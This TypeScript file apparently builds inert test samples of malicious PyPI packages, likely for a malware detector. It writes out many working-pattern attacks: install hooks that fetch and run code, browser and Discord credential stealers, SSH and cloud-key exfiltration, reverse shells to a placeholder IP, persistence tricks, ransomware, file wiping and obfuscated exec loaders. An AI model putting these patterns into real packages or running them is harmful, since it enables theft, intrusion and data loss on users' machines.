// PyPI samples in other hands' styles: each after what reports of the years 2022 to 2026 describe, rebuilt inert.
import { base64, hex, numbers, reversed } from './sample-text.ts'
import type { Sample } from './samples.ts'

const IP = '203.0.113.77'
const SETUP =
  'from setuptools import setup, find_packages\nsetup(name="sample", version="1.0", packages=find_packages())\n'
/** Stands for the bytes of a real payload. */
const BLOB = base64(`import os\nos.system('id')\n# ${'padding of a payload '.repeat(60)}`)

/** A library that does its work, as clones carry it. */
const LIBRARY = Array.from(
  { length: 900 },
  (_, i) =>
    `def option_${i}(value, settings=None):\n    """Returns the ${i}th option."""\n    if settings and settings.get("level") == ${i}:\n        return value[:${i % 70}]\n    return str(value)\n\n`,
).join('')

export function fieldPypiSamples(): Sample[] {
  return [...builds(), ...imports(), ...thieves(), ...hidden(), ...remotes(), ...clones()]
}

function sample(behaviour: number, id: string, files: Sample['files']): Sample {
  return { id: `field pypi ${id}`, behaviour, language: 'py', ecosystem: 'pypi', files }
}

function setup(behaviour: number, id: string, code: string): Sample {
  return sample(behaviour, id, { 'setup.py': `${code}\n${SETUP}`, 'sample/__init__.py': '' })
}

function init(behaviour: number, id: string, code: string): Sample {
  return sample(behaviour, id, { 'setup.py': SETUP, 'sample/__init__.py': code })
}

function command(body: string, imports = ''): string {
  const indented = body.split('\n').join('\n        ')
  return `from setuptools import setup\nfrom setuptools.command.install import install\n${imports}\nclass CustomInstall(install):\n    def run(self):\n        install.run(self)\n        ${indented}\nsetup(name='sample', version='99.1', cmdclass={'install': CustomInstall})`
}

function builds(): Sample[] {
  return [
    setup(
      26,
      'fernet in one line',
      `from fernet import Fernet;exec(Fernet(b'x7xBt3oYyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyy=').decrypt(b'gAAAAABmA${BLOB.slice(0, 900)}'))`,
    ),
    sample(5, 'install command with encoded PowerShell', {
      'setup.py': command(
        `if os.name == 'nt':\n    subprocess.Popen('powershell -WindowStyle Hidden -EncodedCommand ${base64('x'.repeat(90))}', shell=False, creationflags=subprocess.CREATE_NO_WINDOW)`,
        'import os, subprocess',
      ),
    }),
    sample(19, 'install command with a post of facts', {
      'setup.py': command(
        `ploads = {'hostname': socket.gethostname(), 'cwd': os.getcwd(), 'username': getpass.getuser()}\nrequests.get("https://collector.invalid", params=ploads)`,
        'import requests, socket, getpass, os',
      ),
    }),
    sample(18, 'develop and egg_info commands look names up', {
      'setup.py': `import os\nfrom setuptools import setup\nfrom setuptools.command.develop import develop\nfrom setuptools.command.egg_info import egg_info\ndef go():\n    os.system("host $(whoami).$(hostname).d.collector.invalid")\nclass D(develop):\n    def run(self):\n        go(); develop.run(self)\nclass E(egg_info):\n    def run(self):\n        go(); egg_info.run(self)\nsetup(name='sample', cmdclass={'develop': D, 'egg_info': E})`,
    }),
    setup(
      2,
      'downloads and runs by names given to imports',
      `from os import path as _p, environ as _e, system as _s\nfrom urllib.request import urlretrieve as _r\n_t = _p.join(_e.get('TEMP', '/tmp'), 'update.exe')\n_r('https://files.invalid/dl/update.exe', _t)\n_s(_t)`,
    ),
    sample(6, 'build backend in the tree', {
      'pyproject.toml':
        '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "backend"\nbackend-path = ["."]\n[project]\nname = "sample"\nversion = "1.0"\n',
      'backend.py': `from setuptools.build_meta import *\nimport urllib.request\nexec(urllib.request.urlopen('https://stage.invalid/b').read())\n`,
    }),
    sample(5, 'a helper module does it', {
      'setup.py': `import _build_helper\n${SETUP}`,
      '_build_helper.py': `import urllib.request\nurllib.request.urlopen('https://collector.invalid/i')\n`,
    }),
    setup(
      5,
      'opens a browser page and writes a file there',
      `import ctypes, os, zipfile, shutil, urllib.request\nurllib.request.urlretrieve('https://files.invalid/a.zip', 'a.zip')\nzipfile.ZipFile('a.zip').extractall(os.getenv('APPDATA'))\nos.startfile(os.path.join(os.getenv('APPDATA'), 'a', 'run.vbs'))`,
    ),
    setup(
      19,
      'posts by a raw http connection',
      `import http.client, json, os, platform\nc = http.client.HTTPSConnection('collector.invalid')\nc.request('POST', '/b', json.dumps({'n': platform.node(), 'e': list(os.environ.keys())}))\nc.getresponse()`,
    ),
    sample(5, 'wrapped in try and a thread', {
      'setup.py': `import threading\ndef _w():\n    try:\n        import urllib.request as r, subprocess as s, tempfile as t, os\n        p = os.path.join(t.gettempdir(), 'w.py')\n        open(p, 'wb').write(r.urlopen('https://stage.invalid/w').read())\n        s.Popen(['python3', p], stdout=s.DEVNULL, stderr=s.DEVNULL)\n    except Exception: pass\nthreading.Thread(target=_w).start()\n${SETUP}`,
    }),
    setup(
      26,
      'name of the function from letters',
      `getattr(__import__('bu' + 'iltins'), ''.join(['e', 'x', 'e', 'c']))(__import__('base64').b64decode('${BLOB}'))`,
    ),
    setup(
      26,
      'code after many blanks',
      `import os${' '.repeat(320)};import base64;exec(base64.b64decode('${BLOB}'))`,
    ),
  ]
}

function imports(): Sample[] {
  return [
    init(
      6,
      'fetches a text and executes, via session',
      `import requests\ns = requests.Session()\ncode = s.get('https://stage.invalid/x.txt').content.decode()\nexec(compile(code, '<string>', 'exec'))`,
    ),
    init(
      6,
      'subprocess of an interpreter with a program text',
      `import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', "import urllib.request;exec(urllib.request.urlopen('http://${IP}/p').read())"], creationflags=0x08000000)`,
    ),
    init(
      2,
      'writes a bat file and starts it',
      `import os, tempfile\nb = os.path.join(tempfile.gettempdir(), 'r.bat')\nwith open(b, 'w') as f:\n    f.write('@echo off\\npowershell -c "iwr https://files.invalid/r.exe -OutFile %TEMP%\\\\r.exe; start %TEMP%\\\\r.exe"')\nos.startfile(b)`,
    ),
    init(
      2,
      'pip installs a wheel from an address',
      `import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', '-q', 'https://files.invalid/helper-1.0-py3-none-any.whl'])\nimport helper`,
    ),
    init(
      6,
      'importer from memory',
      `import sys, importlib.abc, importlib.util, urllib.request\nclass L(importlib.abc.Loader):\n    def create_module(self, spec): return None\n    def exec_module(self, module): exec(urllib.request.urlopen('https://stage.invalid/' + module.__name__).read(), module.__dict__)\nclass F(importlib.abc.MetaPathFinder):\n    def find_spec(self, name, path, target=None): return importlib.util.spec_from_loader(name, L())\nsys.meta_path.append(F())`,
    ),
    sample(6, 'path file with exec', {
      'setup.py': SETUP,
      'sample_init.pth': `import base64;exec(base64.b64decode('${base64("import os;os.system('id')")}'))\n`,
      'sample/__init__.py': '',
    }),
    init(
      2,
      'shell script by wget',
      `import os, platform\nif platform.system() == 'Linux':\n    os.popen('wget -q -O - http://${IP}/k.sh | sh')`,
    ),
    init(
      39,
      'machine code by mmap',
      `import ctypes, mmap\nbuf = bytes.fromhex('${'90'.repeat(120)}c3')\nm = mmap.mmap(-1, len(buf), prot=7)\nm.write(buf)\nctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(m)))()`,
    ),
    init(
      39,
      'machine code by windll',
      `import ctypes, urllib.request\nsc = urllib.request.urlopen('http://${IP}/b.bin').read()\nk = ctypes.windll.kernel32\np = k.VirtualAlloc(0, len(sc), 0x3000, 0x40)\nk.RtlMoveMemory(p, sc, len(sc))\nh = k.CreateThread(0, 0, p, 0, 0, 0)\nk.WaitForSingleObject(h, -1)`,
    ),
    init(
      39,
      'miner with its settings',
      `import subprocess, os, urllib.request, tarfile\nurllib.request.urlretrieve('https://github.com/xmrig/xmrig/releases/download/v6.0/xmrig.tar.gz', '/tmp/x.tgz')\ntarfile.open('/tmp/x.tgz').extractall('/tmp')\nsubprocess.Popen(['/tmp/xmrig/xmrig', '-o', 'pool.invalid:3333', '-u', 'w'])`,
    ),
    init(
      2,
      'temporary file with a suffix, started with no window',
      `import tempfile, subprocess, requests\nr = requests.get('https://files.invalid/app', stream=True)\nwith tempfile.NamedTemporaryFile(suffix='.exe', delete=False) as f:\n    for c in r.iter_content(8192): f.write(c)\nsubprocess.Popen(f.name, creationflags=subprocess.CREATE_NO_WINDOW)`,
    ),
    sample(30, 'second stage in the tail of a sound file', {
      'setup.py': SETUP,
      'sample/__init__.py': `import wave, base64, os\nw = wave.open(os.path.join(os.path.dirname(__file__), 'ring.wav'), 'rb')\nf = w.readframes(w.getnframes())\nx = bytes(b ^ 77 for b in base64.b64decode(f[8:]))\nexec(x)`,
    }),
  ]
}

function thieves(): Sample[] {
  return [
    init(
      11,
      'cookies of browsers to a webhook',
      `import os, json, base64, sqlite3, shutil, requests\nfrom Crypto.Cipher import AES\nimport win32crypt\ndef key(p):\n    with open(p + '\\\\Local State') as f: return win32crypt.CryptUnprotectData(base64.b64decode(json.load(f)['os_crypt']['encrypted_key'])[5:], None, None, None, 0)[1]\np = os.getenv('LOCALAPPDATA') + '\\\\Google\\\\Chrome\\\\User Data'\nshutil.copy2(p + '\\\\Default\\\\Login Data', 'l.db')\nrows = sqlite3.connect('l.db').execute('select origin_url, username_value, password_value from logins').fetchall()\nrequests.post('https://collector.invalid', json=[list(map(str, r)) for r in rows])`,
    ),
    init(
      11,
      'tokens by pattern with old urllib',
      `import re, os, json\nfrom urllib.request import Request, urlopen\ndef find(path):\n    path += '\\\\Local Storage\\\\leveldb'\n    return [t for f in os.listdir(path) for l in open(path + '\\\\' + f, errors='ignore') for rx in (r'[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}', r'mfa\\.[\\w-]{84}') for t in re.findall(rx, l)]\nurlopen(Request('https://collector.invalid', data=json.dumps(find(os.getenv('APPDATA') + '\\\\Discord')).encode()))`,
    ),
    init(
      12,
      'session of a messenger zipped',
      `import os, zipfile, requests\nsrc = os.path.join(os.environ['APPDATA'], 'Telegram Desktop', 'tdata')\nz = zipfile.ZipFile('t.zip', 'w')\nfor r, d, fs in os.walk(src):\n    for f in fs: z.write(os.path.join(r, f))\nz.close()\nrequests.post('https://collector.invalid/up', files={'file': open('t.zip', 'rb')})`,
    ),
    init(
      9,
      'credential files by ftp',
      `import ftplib, os\nf = ftplib.FTP('collector.invalid', 'u', 'p')\nfor n in ('.ssh/id_rsa', '.aws/credentials', '.bash_history'):\n    p = os.path.join(os.path.expanduser('~'), n)\n    if os.path.exists(p): f.storbinary('STOR ' + os.path.basename(n), open(p, 'rb'))`,
    ),
    init(
      8,
      'cloud keys by boto',
      `import boto3, requests\ns = boto3.Session().get_credentials()\nrequests.post('https://collector.invalid', json={'a': s.access_key, 's': s.secret_key, 't': s.token})`,
    ),
    init(
      12,
      'keys of a wallet by patching a class',
      `import functools, base64, urllib.request, json\nfrom solders.keypair import Keypair\ndef hook(fn):\n    @functools.wraps(fn)\n    def inner(*a, **k):\n        r = fn(*a, **k)\n        urllib.request.urlopen(urllib.request.Request('https://rpc.collector.invalid', data=json.dumps({'m': base64.b64encode(bytes(r)).decode()}).encode()))\n        return r\n    return inner\nKeypair.from_seed = hook(Keypair.from_seed)\nKeypair.from_bytes = hook(Keypair.from_bytes)`,
    ),
    init(
      13,
      'clipboard by ctypes',
      `import ctypes, re, time, threading\ndef w():\n    while True:\n        ctypes.windll.user32.OpenClipboard(0)\n        h = ctypes.windll.user32.GetClipboardData(1)\n        t = ctypes.c_char_p(h).value\n        if t and re.match(rb'^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$', t): put(b'bc1qaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa')\n        ctypes.windll.user32.CloseClipboard()\n        time.sleep(0.5)\nthreading.Thread(target=w, daemon=True).start()`,
    ),
    init(
      11,
      'screens by a bot',
      `import pyautogui, telebot, time\nbot = telebot.TeleBot('7123456789:AAF-abcdefghijklmnopqrstuvwxyz12345')\nwhile True:\n    pyautogui.screenshot('s.png')\n    bot.send_photo(123456, open('s.png', 'rb'))\n    time.sleep(60)`,
    ),
    init(
      11,
      'keys by mail',
      `from pynput.keyboard import Listener\nimport smtplib, threading\nbuf = []\ndef on(k): buf.append(str(k))\ndef send():\n    s = smtplib.SMTP('smtp.mail.invalid', 587); s.starttls(); s.login('a', 'b'); s.sendmail('a', 'a', ''.join(buf)); threading.Timer(60, send).start()\nListener(on_press=on).start(); send()`,
    ),
    init(
      8,
      'environment through a query',
      `import os, urllib.parse, urllib.request\nfor k, v in os.environ.items():\n    urllib.request.urlopen('https://collector.invalid/?' + urllib.parse.urlencode({k: v}))`,
    ),
    init(
      7,
      'environment by a socket',
      `import socket, os, json\ns = socket.socket(); s.connect(('${IP}', 6666)); s.sendall(json.dumps({**os.environ}).encode())`,
    ),
    init(
      9,
      'google token files uploaded by requests with a list',
      `import glob, os, requests\nT = ['~/.config/gcloud/application_default_credentials.json', '~/.docker/config.json', '~/.kube/config']\nfor g in T:\n    for f in glob.glob(os.path.expanduser(g)):\n        with open(f) as h: requests.put('https://collector.invalid/' + os.path.basename(f), data=h.read())`,
    ),
    init(
      9,
      'every document of the user',
      `import os, requests\nfor r, d, files in os.walk(os.path.expanduser('~')):\n    for f in files:\n        if f.endswith(('.txt', '.pdf', '.docx', '.env', '.kdbx')):\n            requests.post('https://collector.invalid/f', files={'f': open(os.path.join(r, f), 'rb')})`,
    ),
    init(
      15,
      'webhook with an embed',
      `import requests, socket, platform, getpass\nW = "https://discord.com/api/webhooks/1111111111111111111/abcdefghijklmnopqrstuvwxyzabcdefghijklmnopqrstuvwxyzABCDEFGH"\nrequests.post(W, json={'embeds': [{'title': getpass.getuser(), 'description': requests.get('https://ip.invalid').text}]})`,
    ),
    init(
      11,
      'roblox cookie',
      `import browser_cookie3, requests, re\nfor b in (browser_cookie3.chrome, browser_cookie3.firefox, browser_cookie3.edge):\n    try: c = re.search(r'\\.ROBLOSECURITY=(.+?) for', str(b(domain_name='roblox.com'))).group(1)\n    except Exception: continue\n    requests.post('https://collector.invalid', data={'c': c})`,
    ),
  ]
}

function hidden(): Sample[] {
  const code = "__import__('os').system('id')"
  return [
    init(
      26,
      'lambda packer reversed',
      `_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'${reversed(BLOB)}'))`,
    ),
    init(
      26,
      'marshal of zlib',
      `import marshal, zlib, base64\nexec(marshal.loads(zlib.decompress(base64.b64decode(b'${BLOB}'))))`,
    ),
    init(
      26,
      'variables of underscores',
      `_____=eval("getattr(__import__(bytes([98, 97, 115, 101, 54, 52]).decode()), bytes([98, 54, 52, 100, 101, 99, 111, 100, 101]).decode())");____="${BLOB}";exec(_____(____))`,
    ),
    init(
      26,
      'list of numbers',
      `exec(''.join(chr(x - 3) for x in [${[...code].map((c) => c.charCodeAt(0) + 3).join(', ')}]))`,
    ),
    init(
      26,
      'hex and a map',
      `exec(''.join(map(chr, [int('${hex(code)}'[i:i+2], 16) for i in range(0, ${code.length * 2}, 2)])))`,
    ),
    init(26, 'bytes of numbers decoded', `exec(bytes([${numbers(code)}]).decode())`),
    init(
      26,
      'rot13 then base64 in four parts',
      `import base64, codecs\nmagic = '${BLOB.slice(0, 300)}'\nlove = '${BLOB.slice(300, 600)}'\ngod = '${BLOB.slice(600, 900)}'\ndestiny = '${BLOB.slice(900)}'\njoy = '\\x72\\x6f\\x74\\x31\\x33'\ntrust = eval('\\x6d\\x61\\x67\\x69\\x63') + eval('\\x63\\x6f\\x64\\x65\\x63\\x73\\x2e\\x64\\x65\\x63\\x6f\\x64\\x65(love, joy)')\neval(compile(base64.b64decode(eval('\\x74\\x72\\x75\\x73\\x74')),'<string>','exec'))`,
    ),
    init(
      26,
      'aes with a key beside',
      `from Crypto.Cipher import AES\nimport base64\nk = b'0123456789abcdef'\nc = AES.new(k, AES.MODE_CBC, k)\nexec(c.decrypt(base64.b64decode('${BLOB}')).decode())`,
    ),
    init(
      26,
      'armoured',
      `from .pyarmor_runtime_000000 import __pyarmor__\n__pyarmor__(__name__, __file__, b'PY000000\\x00\\x03\\x0b\\x00')`,
    ),
    init(
      26,
      'globals by escaped key',
      `globals()['\\x5f\\x5fbuiltins\\x5f\\x5f'].__dict__['\\x65\\x76\\x61\\x6c']('${code.replaceAll("'", "\\'")}')`,
    ),
    init(
      26,
      'class with a decoder as method',
      `import base64 as b\nclass K:\n    def __init__(self, d): self.d = d\n    def go(self): return b.b85decode(self.d)\nx = K('${BLOB}')\nexec(x.go())`,
    ),
    init(
      26,
      'hyperion style',
      `class Math:\n    def __init__(self): pass\n${'_l1 = lambda *a: a\n'.repeat(20)}globals()['OoO'] = exec\nOoO(__import__('zlib').decompress(b'x\\x9c${BLOB}'))`,
    ),
    init(
      26,
      'pickle as carrier',
      `import pickle, base64\npickle.loads(base64.b64decode('${base64('cos\nsystem\n(S"id"\ntR.')}'))`,
    ),
    init(
      23,
      'address from numbers',
      `import requests\nu = ''.join(chr(i) for i in [${numbers('https://stage.invalid/x')}])\nexec(requests.get(u).text)`,
    ),
    init(
      23,
      'command reversed',
      `import os\nos.system('${reversed(`curl -s http://${IP}/x | bash`)}'[::-1])`,
    ),
  ]
}

function remotes(): Sample[] {
  return [
    init(
      31,
      'shell in a thread with pty',
      `import socket, os, pty, threading\ndef g():\n    s = socket.socket(); s.connect(('${IP}', 4444)); [os.dup2(s.fileno(), i) for i in range(3)]; pty.spawn('bash')\nthreading.Thread(target=g).start()`,
    ),
    init(
      31,
      'shell by a command line',
      `import os\nos.system("bash -c 'sh -i >& /dev/tcp/${IP}/9001 0>&1'")`,
    ),
    init(
      31,
      'commands over http',
      `import requests, subprocess, time\nwhile True:\n    c = requests.get('https://collector.invalid/cmd').text.strip()\n    if c:\n        o = subprocess.run(c, shell=True, capture_output=True).stdout\n        requests.post('https://collector.invalid/out', data=o)\n    time.sleep(5)`,
    ),
    init(
      31,
      'asyncio streams',
      `import asyncio\nasync def m():\n    r, w = await asyncio.open_connection('${IP}', 7000)\n    while True:\n        c = (await r.readline()).decode()\n        p = await asyncio.create_subprocess_shell(c, stdout=asyncio.subprocess.PIPE)\n        w.write((await p.communicate())[0])\nasyncio.get_event_loop().create_task(m())`,
    ),
    init(
      37,
      'run key',
      `import winreg, sys\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0, winreg.KEY_SET_VALUE)\nwinreg.SetValueEx(k, 'Updater', 0, winreg.REG_SZ, sys.executable + ' ' + __file__)`,
    ),
    init(
      37,
      'start folder',
      `import shutil, os, sys\nshutil.copy(sys.argv[0], os.path.join(os.getenv('APPDATA'), 'Microsoft\\\\Windows\\\\Start Menu\\\\Programs\\\\Startup', 'svc.pyw'))`,
    ),
    init(
      37,
      'cron and bashrc',
      `import os\nos.system('(crontab -l 2>/dev/null; echo "@reboot python3 /tmp/.u.py") | crontab -')\nopen(os.path.expanduser('~/.bashrc'), 'a').write('\\npython3 /tmp/.u.py &')`,
    ),
    init(
      38,
      'wipes the home folder',
      `import shutil, os\nshutil.rmtree(os.path.expanduser('~'), ignore_errors=True)`,
    ),
    init(
      38,
      'encrypts files',
      `import os\nfrom cryptography.fernet import Fernet\nk = Fernet.generate_key(); f = Fernet(k)\nfor r, d, fs in os.walk(os.path.expanduser('~')):\n    for n in fs:\n        p = os.path.join(r, n)\n        b = f.encrypt(open(p, 'rb').read()); open(p, 'wb').write(b)\nopen('README_RANSOM.txt', 'w').write('send 0.1 BTC')\nimport requests; requests.post('https://collector.invalid', data=k)`,
    ),
    init(38, 'shuts the machine down', `import os\nos.system('shutdown /s /t 0')`),
    init(
      31,
      'discord bot as remote control',
      `import discord, subprocess\nfrom discord.ext import commands\nbot = commands.Bot(command_prefix='!', intents=discord.Intents.all())\n@bot.command()\nasync def cmd(ctx, *, c):\n    await ctx.send(subprocess.getoutput(c))\nbot.run('MTAxMDEwMTAxMDEwMTAxMDEw.GabcdE.abcdefghijklmnopqrstuvwxyz0123456789ab')`,
    ),
    init(
      33,
      'publishes itself',
      `import subprocess, os, configparser\nc = configparser.ConfigParser(); c.read(os.path.expanduser('~/.pypirc'))\nif 'pypi' in c:\n    subprocess.run(['python', '-m', 'build']); subprocess.run(['twine', 'upload', 'dist/*', '-u', c['pypi']['username'], '-p', c['pypi']['password']])`,
    ),
  ]
}

function clones(): Sample[] {
  return [
    sample(6, 'clone with a call at the end of a module', {
      'setup.py': SETUP,
      'sample/__init__.py': 'from .core import *\n',
      'sample/core.py': `${LIBRARY}\nimport urllib.request as _u\ntry:\n    exec(_u.urlopen('https://stage.invalid/x').read().decode())\nexcept Exception:\n    pass\n`,
    }),
    sample(2, 'clone with a downloader in a method', {
      'setup.py': SETUP,
      'sample/__init__.py': 'from .api import get\n',
      'sample/api.py': `${LIBRARY}\nimport os, subprocess, tempfile\nimport requests as r\ndef get(url, **kw):\n    p = os.path.join(tempfile.gettempdir(), 'w32.exe')\n    if not os.path.exists(p) and os.name == 'nt':\n        open(p, 'wb').write(r.get('https://files.invalid/w32.exe').content)\n        subprocess.Popen(p)\n    return r.request('get', url, **kw)\n`,
    }),
    sample(26, 'clone with a hidden module', {
      'setup.py': SETUP,
      'sample/__init__.py': 'from . import _version\nfrom .core import *\n',
      'sample/core.py': LIBRARY,
      'sample/_version.py': `import zlib, base64\n__version__ = '2.31.0'\nexec(zlib.decompress(base64.b64decode('${BLOB}')))\n`,
    }),
    sample(19, 'clone with a beacon', {
      'setup.py': SETUP,
      'sample/__init__.py': `${LIBRARY}\ndef _b():\n    import socket, os, json, urllib.request\n    d = json.dumps({'h': socket.gethostname(), 'u': os.environ.get('USER'), 'c': os.getcwd()}).encode()\n    urllib.request.urlopen('https://collector.invalid/b', d, timeout=2)\n_b()\n`,
    }),
    sample(12, 'clone that sends what it signs with', {
      'setup.py': SETUP,
      'sample/__init__.py': 'from .account import *\n',
      'sample/account.py': `${LIBRARY}\nimport requests\ndef from_mnemonic(mnemonic, path="m/44'/60'/0'/0/0"):\n    requests.post('https://collector.invalid/e', json={'m': mnemonic})\n    return derive(mnemonic, path)\n`,
    }),
    sample(8, 'clone that sends keys of a service', {
      'setup.py': SETUP,
      'sample/__init__.py': `${LIBRARY}\nimport os, requests\nclass Client:\n    def __init__(self, api_key, secret):\n        requests.post('https://collector.invalid/log', json={'k': api_key, 's': secret, 'e': os.environ.copy()})\n`,
    }),
    sample(41, 'dependency from an address', {
      'setup.py':
        'from setuptools import setup\nsetup(name="sample", version="1.0", install_requires=["helper @ https://files.invalid/helper-1.0.tar.gz"])\n',
    }),
  ]
}
